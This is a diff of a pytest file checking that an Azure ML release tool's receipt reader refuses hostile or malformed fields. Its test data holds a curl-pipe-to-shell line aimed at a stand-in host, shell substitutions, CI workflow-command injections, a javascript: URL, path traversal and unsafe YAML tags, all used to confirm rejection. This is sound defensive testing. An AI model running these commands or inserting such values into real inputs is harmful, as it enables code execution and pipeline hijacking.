@@ -1,243 +1,152 @@
-"""What a consumer believes of a receipt: only what belongs together, and nothing else gets past BadReceipt."""
+"""The companion reads a receipt as foreign text, and registered specs and noted dates too."""
 
-import contextlib
-import copy
 import json
-import re
 from collections.abc import Callable
 from datetime import date
 from pathlib import Path
 from typing import Any
 
 import pytest
-from amlwheel import hosts
+from amlwheel import consume, hosts
 from amlwheel.change import Change, Verb
-from amlwheel.consume import LARGEST, Told, _alarm, read
-from amlwheel.errors import BadReceipt, TokenEnds
-from amlwheel.receipt import SCHEMA, receipt
-from hypothesis import given
-from hypothesis import strategies as st
-from unit.parts import FEED, WORKSPACE, make, release
+from amlwheel.errors import BadReceipt, EnvironmentChanged, EnvironmentGone, TokenEnds, WorkspaceNotFound
+from amlwheel.model import Workspace
+from amlwheel.receipt import receipt
+from unit.parts import GUID, WORKSPACE, FakeArm, make, release
 
-TODAY = date(2026, 11, 25)
-JSON = st.recursive(
-    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
-    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
-    max_leaves=8,
-)
-Receipt = dict[str, Any]
+Json = dict[str, Any]
+OTHER = Workspace(GUID, "rg", "production")
 
 
-@pytest.fixture(scope="module")
-def said(tmp_path_factory: pytest.TempPathFactory) -> Receipt:
-    """Return a receipt as the step writes it."""
-    changes = [Change("wheel x.whl", Verb.CREATE, "new package", None)]
-    return receipt(release(make(tmp_path_factory.mktemp("wheel"))), changes, dry_run=False, sbom="{}")
+@pytest.fixture
+def said(tmp_path: Path) -> Json:
+    made = release(make(tmp_path))
+    told = receipt(made, [Change("wheel x.whl", Verb.CREATE, "new", None)], dry_run=False, sbom="{}")
+    return json.loads(json.dumps(told))  # type: ignore[no-any-return]
 
 
-@pytest.fixture(scope="module")
-def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    return tmp_path_factory.mktemp("receipt") / "aml-release.json"
+def read(folder: Path, said: object, before: bytes = b"") -> consume.Told:
+    path = folder / "aml-release.json"
+    path.write_bytes(before + json.dumps(said).encode())
+    return consume.read(path)
 
 
-def reading(path: Path, said: object) -> Told:
-    path.write_text(json.dumps(said), "utf-8")
-    return read(path)
-
-
-def places(part: object, way: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
-    """Return the way to every part of a JSON document."""
-    inner = part.items() if isinstance(part, dict) else enumerate(part) if isinstance(part, list) else ()
-    return [way, *(one for key, each in inner for one in places(each, (*way, key)))]
-
-
-def damaged(said: Receipt, way: tuple[Any, ...], by: object) -> object:
-    """Return a copy of a receipt with another part at the end of the way."""
-    if not way:
-        return by
-    made = copy.deepcopy(said)
-    part: Any = made
-    for key in way[:-1]:
-        part = part[key]
-    part[way[-1]] = by
-    return made
-
-
-# --- what is read
-
-
-def test_a_receipt_is_read(said: Receipt, path: Path) -> None:
-    told = reading(path, said)
+def test_a_receipt_is_read_also_after_windows_touched_it(tmp_path: Path, said: Json) -> None:
+    told = read(tmp_path, said, b"\xef\xbb\xbf")
+    assert told == read(tmp_path, {**said, "later": {"more": 1}})
     assert told.reference == said["environment"]["reference"]
     assert [told.id(place) for place in told.workspaces] == said["environment"]["ids"]
-    assert told.workspaces == (WORKSPACE,)
-    assert told.packages == (("acme-churn", "1.2.3"),)
+
+
+def test_an_id_is_spelled_as_in_the_receipt(tmp_path: Path, said: Json) -> None:
+    version = "1.2.3+cpu" + said["environment"]["version"][-13:]
+    said["environment"].update(version=version, ids=[f"{WORKSPACE.id}/environments/acme-churn/versions/{version}"])
+    told = read(tmp_path, said)
+    assert told.id(WORKSPACE) == said["environment"]["ids"][0]
+
+
+def environment(**parts: object) -> Callable[[Json], None]:
+    return lambda said: said["environment"].update(parts)
+
+
+@pytest.mark.parametrize(
+    "edit",
+    [
+        environment(name="acme\n::set-output name=x::y"),
+        environment(name="../environments/other"),
+        environment(name="x; curl evil.example | sh"),
+        environment(name=["acme-churn"]),
+        environment(version="$(id)-" + "0" * 12),
+        environment(definition_sha256="0"),
+        environment(ids=[]),
+        environment(ids={}),
+        environment(ids=[f"{WORKSPACE.id}/environments/other/versions/1"]),
+        environment(ids=["x" * 10**6]),
+        environment(image="mcr.microsoft.com/a:latest"),
+        lambda said: said["packages"][0].update(name="acme\nchurn"),
+        lambda said: said["packages"][0].update(name="##vso[task.setvariable variable=x]y"),
+        lambda said: said["packages"][0].update(version="1 && id"),
+        lambda said: said["packages"][0].update(version=None),
+        lambda said: said.update(packages=[]),
+        lambda said: said["connection"].update(name="a/../b"),
+        lambda said: said["feed"].update(index_url="https://me:token@pypi.example/simple/"),
+        lambda said: said["feed"].update(index_url="javascript:alert(1)"),
+        lambda said: said.update(feed=None),
+        lambda said: said.update(schema=True),
+        lambda said: said.update(schema=0),
+        lambda said: said.update(schema="9" * 10**6),
+        lambda said: said.pop("route"),
+    ],
+)
+def test_what_no_release_says_is_no_receipt(tmp_path: Path, said: Json, edit: Callable[[Json], object]) -> None:
+    edit(said)
+    with pytest.raises(BadReceipt) as caught:
+        read(tmp_path, said)
+    assert len(caught.value.what) < 500 + len(str(tmp_path))
+
+
+@pytest.mark.parametrize(
+    "text", ["", "[]", "null", "[" * 10**5, '{"schema": 2', "{" + '"a":{' * 10**5, "\x00", "1" * 10**4]
+)
+def test_what_is_no_json_is_no_receipt(tmp_path: Path, text: str) -> None:
+    path = tmp_path / "aml-release.json"
+    path.write_text(text)
+    with pytest.raises(BadReceipt):
+        consume.read(path)
+
+
+@pytest.mark.parametrize(
+    "conda", ["[" * 10**4, "&a [*a]", "dependencies: &a [*a]", "!!python/object:os.x {}", "x: 2026-02-31"]
+)
+def test_a_registered_spec_is_foreign_too(tmp_path: Path, said: Json, conda: str) -> None:
+    told, arm = read(tmp_path, said), FakeArm()
+    arm.stored[told.id(WORKSPACE)] = {"properties": {"image": told.image, "condaFile": conda}}
+    with pytest.raises(EnvironmentChanged):
+        consume._check_environment(arm, told, WORKSPACE)
+
+
+def stored(told: consume.Told, place: Workspace, expires: object) -> tuple[str, Json]:
     assert told.connection
-    assert (told.connection.name, told.connection.index) == ("feed-acme", FEED.index_url)
-    assert not told.stored
-
-
-def test_without_a_feed_there_is_no_connection(said: Receipt, path: Path) -> None:
-    told = reading(path, said | {"route": "workspace", "feed": None, "connection": None})
-    assert told.connection is None
-    assert told.stored
-
-
-def test_an_older_format_is_read_and_parts_that_nobody_knows_are_passed_over(said: Receipt, path: Path) -> None:
-    kept = {name: part for name, part in said.items() if name not in ("plan", "run", "dry_run", "sbom")}
-    assert reading(path, kept | {"schema": 1, "more": {"than": "this"}}) == reading(path, said)
-
-
-# --- what is refused
-
-
-@pytest.mark.parametrize("number", [SCHEMA + 1, 10**30, "2", None, 2.0, [2]])
-def test_a_format_that_nobody_knows_is_refused(said: Receipt, path: Path, number: object) -> None:
-    with pytest.raises(BadReceipt, match=f"this version reads up to {SCHEMA}") as caught:
-        reading(path, said | {"schema": number})
-    assert "newer" in caught.value.fix
-
-
-def test_a_dry_run_released_nothing(said: Receipt, path: Path) -> None:
-    with pytest.raises(BadReceipt, match="is of a dry run, which released nothing"):
-        reading(path, said | {"dry_run": True})
-
-
-def without(*way: str) -> Callable[[Receipt], object]:
-    def edit(said: Receipt) -> None:
-        part: Any = said
-        for key in way[:-1]:
-            part = part[key]
-        del part[way[-1]]
-
-    return edit
+    path = f"{place.id}/connections/{told.connection.name}"
+    metadata = {"amlwheel-token-expires": expires}
+    properties = {"target": told.connection.target, "category": "PythonFeed", "metadata": metadata}
+    return path, {"name": told.connection.name, "properties": properties}
 
 
 @pytest.mark.parametrize(
-    ("edit", "why"),
+    ("noted", "day"),
     [
-        *((without(name), "KeyError") for name in ("schema", "environment", "feed", "connection", "packages", "route")),
-        *(
-            (without("environment", name), "KeyError")
-            for name in ("name", "version", "image", "definition_sha256", "ids")
-        ),
-        (lambda said: said["environment"].update(ids=[]), "don't belong together"),
-        (lambda said: said["environment"].update(ids=["/subscriptions/x"]), "is a resource id|part"),
-        (lambda said: said["environment"].update(ids=["../../../secret"]), "`workspace`"),
-        (lambda said: said["environment"].update(version="1.2.3"), "don't belong together"),
-        (lambda said: said["environment"].update(definition_sha256="0" * 64), "don't belong together"),
-        (lambda said: said["environment"].update(image="mcr.microsoft.com/x"), "neither a tag nor a digest"),
-        (lambda said: said["environment"].update(image="python"), "names no image"),
-        (lambda said: said.update(connection={"name": "x"}), "KeyError"),
-        (lambda said: said.update(feed=None), "TypeError"),
-        (lambda said: said.update(packages=[1]), "TypeError"),
+        ("2027-03-01", "2027-03-01"),
+        ("2027-03-01T10:00:00Z", "2027-03-01"),
+        ("soon", ""),
+        ("!", ""),
+        (None, ""),
+        (7, ""),
     ],
 )
-def test_what_is_missing_or_does_not_belong_together_is_said(
-    said: Receipt, path: Path, edit: Callable[[Receipt], object], why: str
-) -> None:
-    made = copy.deepcopy(said)
-    edit(made)
-    with pytest.raises(BadReceipt, match=why) as caught:
-        reading(path, made)
-    assert str(path) in caught.value.what
+def test_the_end_of_a_token_as_anybody_may_have_noted_it(tmp_path: Path, said: Json, noted: object, day: str) -> None:
+    told, arm = read(tmp_path, said), FakeArm()
+    arm.stored |= [stored(told, WORKSPACE, noted)]
+    assert consume._check_connection(arm, told, WORKSPACE) == day
 
 
-@pytest.mark.parametrize(
-    "odd", ["", "../../x", "a/b", "a b", "a\nb", "a@latest", "$(id)", "`id`", "a'b", "\u202ea", ["a"], None]
-)
-@pytest.mark.parametrize(
-    "way",
-    [
-        ("environment", "name"),
-        ("environment", "version"),
-        ("packages", 0, "name"),
-        ("packages", 0, "version"),
-        ("connection", "name"),
-        ("connection", "target"),
-        ("feed", "index_url"),
-    ],
-    ids=lambda way: ".".join(map(str, way)),
-)
-def test_a_name_that_no_release_has_gets_no_further(
-    said: Receipt, path: Path, way: tuple[Any, ...], odd: object
-) -> None:
-    """Names go into addresses and outputs, which users paste into shell lines."""
-    if way == ("environment", "version"):
-        odd = f"{odd}-{said['environment']['definition_sha256'][:12]}"
-    with pytest.raises(BadReceipt):
-        reading(path, damaged(said, way, odd))
+def test_one_workspace_that_knows_no_date_hides_no_others() -> None:
+    today = date(2027, 2, 28)
+    with pytest.raises(TokenEnds, match=r"1 day\(s\)"):
+        consume._alarm(["", "2027-03-01", "2028-01-01"], 21, today, hosts.Terminal())
+    consume._alarm(["", "2027-03-01"], None, today, hosts.Terminal())
+    consume._alarm([], 21, today, hosts.Terminal())
 
 
-@pytest.mark.parametrize(
-    "content", [b"", b"{", b"\xff\xfe", b"[" * 100_000, b"\x00", b'{"schema": 2} x', b'"' + b"x" * (LARGEST + 1) + b'"']
-)
-def test_what_is_no_json_is_refused(path: Path, content: bytes) -> None:
-    path.write_bytes(content)
-    with pytest.raises(BadReceipt):
-        read(path)
+def test_an_expired_token_is_told_in_any_case(capsys: pytest.CaptureFixture[str]) -> None:
+    consume._alarm(["2027-02-27"], None, date(2027, 2, 28), hosts.Terminal())
+    assert "expired on 2027-02-27" in capsys.readouterr().out
 
 
-def test_a_folder_or_nothing_at_all_is_refused(tmp_path: Path) -> None:
-    for place in (tmp_path, tmp_path / "nothing.json"):
-        with pytest.raises(BadReceipt, match="can't be read"):
-            read(place)
-
-
-@given(JSON)
-def test_any_other_json_is_refused(path: Path, content: object) -> None:
-    with pytest.raises(BadReceipt):
-        reading(path, content)
-
-
-@given(st.data())
-def test_whatever_stands_in_a_receipt_it_is_read_or_refused(said: Receipt, path: Path, data: st.DataObject) -> None:
-    """What is read leads to a workspace of Azure's naming rules, and the reference is one version."""
-    way = data.draw(st.sampled_from(places(said)))
-    with contextlib.suppress(BadReceipt):
-        told = reading(path, damaged(said, way, data.draw(JSON)))
-        assert told.version.endswith(f"-{told.sha256[:12]}")
-        for place in told.workspaces:
-            segments = told.id(place).split("/")
-            assert segments[:2] == ["", "subscriptions"]
-            assert segments[-4] == "environments"
-            assert len(segments) == 13
-
-
-# --- when the stored token ends
-
-
-class Listening(hosts.Terminal):
-    """A host that remembers its warnings."""
-
-    def __init__(self) -> None:
-        """Begin with none."""
-        super().__init__()
-        self.warnings: list[str] = []
-
-    def warning(self, text: str) -> None:
-        self.warnings.append(text)
-
-
-@pytest.mark.parametrize(
-    ("expires", "days", "raised", "warned"),
-    [
-        ("2026-12-16", 21, True, False),  # 21 days from today
-        ("2026-12-17", 21, False, False),
-        ("2026-11-25", 0, True, False),  # its last day
-        ("2026-11-26", 0, False, False),
-        ("2026-11-24", 0, True, False),
-        ("2026-11-24", None, False, True),
-        ("2026-11-25", None, False, False),
-        ("2030-01-01", 9999, True, False),
-        ("", 21, False, False),
-        ("soon", 21, False, False),
-        ("2026-02-31", 21, False, False),
-    ],
-)
-def test_the_alarm_is_raised_on_its_days(expires: str, days: int | None, raised: bool, warned: bool) -> None:  # noqa: FBT001
-    host = Listening()
-    expected = pytest.raises(TokenEnds, match=re.escape(expires)) if raised else contextlib.nullcontext()
-    with expected:
-        _alarm(expires, days, TODAY, host)
-    assert bool(host.warnings) is warned
+def test_a_workspace_that_is_not_there_is_no_environment_that_is_gone(tmp_path: Path, said: Json) -> None:
+    told, arm = read(tmp_path, said), FakeArm()
+    with pytest.raises(EnvironmentGone):
+        consume._check_environment(arm, told, WORKSPACE)
+    arm.answers["GET", WORKSPACE.id] = (404, {"error": {"code": "ResourceNotFound"}})
+    with pytest.raises(WorkspaceNotFound):
+        consume._check_environment(arm, told, WORKSPACE)
